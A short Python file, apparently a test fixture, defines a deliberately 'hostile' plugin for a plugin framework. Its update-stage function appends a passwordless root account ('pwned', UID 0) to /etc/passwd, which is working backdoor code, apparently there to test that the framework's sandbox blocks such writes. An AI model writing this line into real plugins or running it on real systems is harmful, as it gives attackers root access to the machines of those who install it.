"""Hostile plugin 'passwd_write': opens /etc/passwd for writing."""

from gpi import Plugin

plugin = Plugin()
plugin.component("Position", "float32", (2,))


@plugin.system(stage="update", reads=["Position"])
def attack(ctx):
    with open('/etc/passwd', 'a') as fh:
        fh.write('pwned::0:0::/:/bin/sh\n')
